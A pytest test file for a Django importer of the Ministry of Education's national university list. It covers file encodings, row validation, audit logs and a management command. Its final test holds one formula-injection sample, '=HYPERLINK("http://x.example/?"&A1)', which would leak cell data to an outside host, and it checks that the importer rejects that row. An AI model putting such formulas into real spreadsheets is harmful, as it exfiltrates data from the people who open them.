import re

import openpyxl
import pytest
from django.core.management import CommandError, call_command

from techmayor import data
from techmayor.core.errors import ApplicationError
from techmayor.core.files import ImportRejected, read_rows
from techmayor.core.models import AuditAction, AuditLog
from techmayor.resources.importers import import_universities
from techmayor.resources.models import University
from tests.factories import UserFactory

pytestmark = pytest.mark.django_db

HEADER = ["序号", "学校名称", "学校标识码", "主管部门", "所在地", "办学层次", "备注"]
TITLE = [["附件1："], ["全国普通高等学校名单 （截至2025年6月20日）"], HEADER]
NJU = ["1", "南京大学", "4132010284", "教育部", "南京市", "本科", ""]
CZU = ["2", "常州大学", "4132010292", "江苏省", "常州市", "本科", ""]
CZIT = ["3", "常州信息职业技术学院", "4132010848", "江苏省", "常州市", "专科", ""]
CUMTB = ["4", "中国矿业大学（北京）", "4111011413", "教育部", "北京市", "本科", ""]


def moe_rows(*rows):
    """The Ministry's layout: two title rows, the header, a section row, then data rows."""
    return [*TITLE, ["江苏省（3所）"], *rows]


def write_csv(path, rows, encoding="utf-8"):
    path.write_text("\n".join(",".join(r) for r in rows) + "\n", encoding=encoding)
    return path


# --------------------------------------------------------------------------------------------
# the real file


def test_real_moe_list_imports_every_university_and_reimport_changes_nothing():
    path = data.UNIVERSITIES
    result = import_universities(path)
    assert (result.created, result.updated, result.unchanged, result.skipped, result.errors) == (2919, 0, 0, 0, [])
    assert University.objects.count() == 2919

    # Jiangsu: the section row says how many; count the data rows under it in the file itself.
    rows = read_rows(path).rows
    start = next(i for i, r in enumerate(rows) if r.cells and r.cells[0].startswith("江苏省（"))
    stated = int(re.search(r"（(\d+)所）", rows[start].cells[0]).group(1))
    end = next(i for i in range(start + 1, len(rows)) if "所）" in rows[i].cells[0])
    assert stated == end - start - 1 == 175  # the 2025-06-20 list has 175 (not 168)
    assert University.objects.filter(province_code="32").count() == stated

    nju = University.objects.get(code="4132010284")
    assert (nju.name, nju.authority, nju.location, nju.level, nju.province) == (
        "南京大学",
        "教育部",
        "南京市",
        "本科",
        "江苏省",
    )
    assert University.objects.get(code="4111010001").name == "北京大学"  # a float cell in the .xls
    assert University.objects.get(name="中国矿业大学（北京）").province_code == "11"
    # codes that do not start with "41" are real too (e.g. 盐城幼儿师范高等专科学校)
    assert University.objects.get(code="3632000466").province_code == "32"
    audit_rows = AuditLog.objects.count()
    assert audit_rows == 2919
    nju_log = AuditLog.objects.get(model="resources.university", object_id=str(nju.pk))
    assert (nju_log.action, nju_log.after["code"]) == (AuditAction.CREATE, "4132010284")
    assert re.fullmatch(r"导入 .+ 第\d+行", nju_log.note)

    again = import_universities(path)
    assert (again.created, again.updated, again.unchanged, again.skipped) == (0, 0, 2919, 0)
    assert AuditLog.objects.count() == audit_rows


# --------------------------------------------------------------------------------------------
# formats


def test_gbk_csv_with_moe_layout(tmp_path):
    path = write_csv(tmp_path / "名单.csv", moe_rows(NJU, CZU, CZIT, CUMTB), encoding="gbk")
    result = import_universities(path)
    assert (result.created, result.skipped, result.errors) == (4, 0, [])
    assert University.objects.get(code="4132010848").level == "专科"
    assert University.objects.get(code="4111011413").name == "中国矿业大学（北京）"


def test_utf8_bom_csv(tmp_path):
    path = write_csv(tmp_path / "list.csv", [HEADER, NJU], encoding="utf-8-sig")
    assert import_universities(path).created == 1


def test_xlsx_with_float_codes(tmp_path):
    book = openpyxl.Workbook()
    sheet = book.active
    for row in moe_rows():
        sheet.append(row)
    sheet.append([1.0, "南京大学", 4132010284.0, "教育部", "南京市", "本科", None])
    sheet.append([])
    sheet.append([2.0, "常州大学", 4132010292, "江苏省", "常州市", "本科", None])
    path = tmp_path / "list.xlsx"
    book.save(path)
    result = import_universities(path)
    assert result.created == 2
    assert set(University.objects.values_list("code", flat=True)) == {"4132010284", "4132010292"}


def test_float_code_text_from_a_csv_is_accepted(tmp_path):
    path = write_csv(tmp_path / "list.csv", [HEADER, ["1", "南京大学", "4132010284.0", "教育部", "南京市", "本科", ""]])
    import_universities(path)
    assert University.objects.get().code == "4132010284"


# --------------------------------------------------------------------------------------------
# bad files and bad rows: nothing written


def test_empty_file(tmp_path):
    path = tmp_path / "empty.csv"
    path.write_bytes(b"")
    with pytest.raises(ApplicationError, match="文件为空"):
        import_universities(path)
    assert not University.objects.exists()


def test_header_only(tmp_path):
    with pytest.raises(ApplicationError, match="没有任何高校数据"):
        import_universities(write_csv(tmp_path / "list.csv", moe_rows()))


def test_wrong_header_names_the_missing_columns(tmp_path):
    header = ["序号", "学校名称", "学校代码", "主管部门", "所在地", "层次", "备注"]
    path = write_csv(tmp_path / "list.csv", [["名单"], header, NJU])
    with pytest.raises(ApplicationError) as err:
        import_universities(path)
    assert err.value.message == "表头（第2行）缺少列：学校标识码"
    assert not University.objects.exists()


def test_a_list_without_location_level_or_authority_imports_with_the_province_derived(tmp_path):
    rows = [["学校名称", "学校标识码"], ["江苏省（2所）"], ["南京大学", "4132010284"], ["常州大学", "4132010292"],
            ["北京市（1所）"], ["中国矿业大学（北京）", "4111011413"], ["清华大学", "4111010003"]]  # fmt: skip
    result = import_universities(write_csv(tmp_path / "list.csv", rows))
    assert result.created == 4
    assert dict(University.objects.values_list("name", "location")) == {
        "南京大学": "江苏省", "常州大学": "江苏省", "中国矿业大学（北京）": "北京市", "清华大学": "北京市",
    }  # fmt: skip
    assert set(University.objects.values_list("level", flat=True)) == {""}
    # a later list with the levels fills them in; one without changes nothing
    rows = [["学校名称", "学校标识码", "所在地", "办学层次"], ["南京大学", "4132010284", "南京市", "本科"]]
    assert import_universities(write_csv(tmp_path / "more.csv", rows)).updated == 1
    rows = [["学校名称", "学校标识码"], ["南京大学", "4132010284"]]
    assert import_universities(write_csv(tmp_path / "bare.csv", rows)).unchanged == 1
    assert University.objects.get(code="4132010284").location == "南京市"  # never replaced by a derived one


def test_bad_rows_write_nothing_and_are_reported_with_their_row_numbers(tmp_path):
    bad_code = ["2", "常州大学", "4199010292", "江苏省", "常州市", "本科", ""]
    bad_level = ["3", "常州信息职业技术学院", "4132010848", "江苏省", "常州市", "大专", ""]
    short_code = ["4", "无名学院", "413201", "江苏省", "常州市", "本科", ""]
    duplicate = ["5", "南京大学（重复）", "4132010284", "教育部", "南京市", "本科", ""]
    no_name = ["6", "", "4132010295", "教育部", "无锡市", "本科", ""]
    rows = moe_rows(NJU, bad_code, bad_level, short_code, duplicate, no_name)
    path = write_csv(tmp_path / "list.csv", rows)
    with pytest.raises(ImportRejected) as err:
        import_universities(path)
    assert err.value.errors == [
        "第6行: 学校标识码: 「4199010292」第 3–4 位「99」不是有效的省份代码",
        "第7行: 办学层次: 应为「本科」或「专科」，实际为「大专」",
        "第8行: 学校标识码: 应为 10 位数字，实际为「413201」",
        "第9行: 学校标识码: 「4132010284」与第5行重复",
        "第10行: 学校名称: 不能为空",
    ]
    assert err.value.message == "list.csv 中有 5 处错误，未写入任何数据"
    assert not University.objects.exists()
    assert not AuditLog.objects.exists()

    result = import_universities(path, skip_bad=True)
    assert (result.created, result.skipped, len(result.errors)) == (1, 5, 5)
    assert list(University.objects.values_list("name", flat=True)) == ["南京大学"]


def test_scientific_notation_code_is_explained(tmp_path):
    path = write_csv(tmp_path / "list.csv", [HEADER, ["1", "南京大学", "4.13201E+09", "教育部", "南京市", "本科", ""]])
    with pytest.raises(ImportRejected) as err:
        import_universities(path)
    assert err.value.errors[0].startswith("第2行: 学校标识码: 「4.13201E+09」是科学计数法")


# --------------------------------------------------------------------------------------------
# upsert and audit


def test_changed_rows_are_updated_and_audited_by_the_user(tmp_path):
    user = UserFactory()
    import_universities(write_csv(tmp_path / "v1.csv", moe_rows(NJU, CZU)), by=user)
    renamed = ["2", "常州大学", "4132010292", "江苏省教育厅", "常州市", "本科", ""]
    result = import_universities(write_csv(tmp_path / "v2.csv", moe_rows(NJU, renamed, CZIT)), by=user)
    assert (result.created, result.updated, result.unchanged) == (1, 1, 1)
    log = AuditLog.objects.filter(action=AuditAction.UPDATE).get()
    assert log.actor == user
    assert log.changed_fields == ["authority"]
    assert log.note == "导入 v2.csv 第6行"
    assert University.objects.get(code="4132010292").updated_by == user


# --------------------------------------------------------------------------------------------
# the management command


def test_import_command(tmp_path, capsys):
    path = write_csv(tmp_path / "list.csv", moe_rows(NJU, CZU, CZIT))
    call_command("import_data", "universities", str(path))
    out = capsys.readouterr().out
    assert "新增 3 所，更新 0 所，未变 0 所，跳过 0 行" in out
    assert set(AuditLog.objects.values_list("source", flat=True)) == {"import"}


def test_import_command_with_bad_rows(tmp_path, capsys):
    bad = ["2", "常州大学", "123", "江苏省", "常州市", "本科", ""]
    path = write_csv(tmp_path / "list.csv", moe_rows(NJU, bad))
    with pytest.raises(CommandError, match="未写入任何数据"):
        call_command("import_data", "universities", str(path))
    assert "第6行: 学校标识码: 应为 10 位数字，实际为「123」" in capsys.readouterr().err
    assert not University.objects.exists()

    call_command("import_data", "universities", str(path), "--skip-bad")
    captured = capsys.readouterr()
    assert "新增 1 所，更新 0 所，未变 0 所，跳过 1 行" in captured.out
    assert "第6行: 学校标识码" in captured.err
    assert University.objects.count() == 1


def test_import_command_file_errors(tmp_path):
    with pytest.raises(CommandError, match=r"无法识别的文件格式：\.txt"):
        call_command("import_data", "universities", str(tmp_path / "list.txt"))


def test_csv_cells_are_cleaned_as_forms_clean_text_and_formulas_are_refused(tmp_path):
    """A NUL byte or a zero-width space is dropped; a name that a spreadsheet would run is a row error."""
    nul = ["1", "南京\x00大学\u200b", "4132010284", "教育部", "南京市", "本科", ""]
    evil = ["2", '=HYPERLINK("http://x.example/?"&A1)', "4132010292", "江苏省", "常州市", "本科", ""]
    path = tmp_path / "list.csv"
    path.write_bytes("\n".join(",".join(r) for r in [HEADER, nul, evil]).encode() + b"\n")
    with pytest.raises(ImportRejected) as exc:
        import_universities(path)
    assert exc.value.errors == ["第3行: 学校名称: 不能以「=」开头（会被电子表格当作公式）"]
    result = import_universities(path, skip_bad=True)
    assert result.created == 1
    assert list(University.objects.values_list("name", flat=True)) == ["南京大学"]
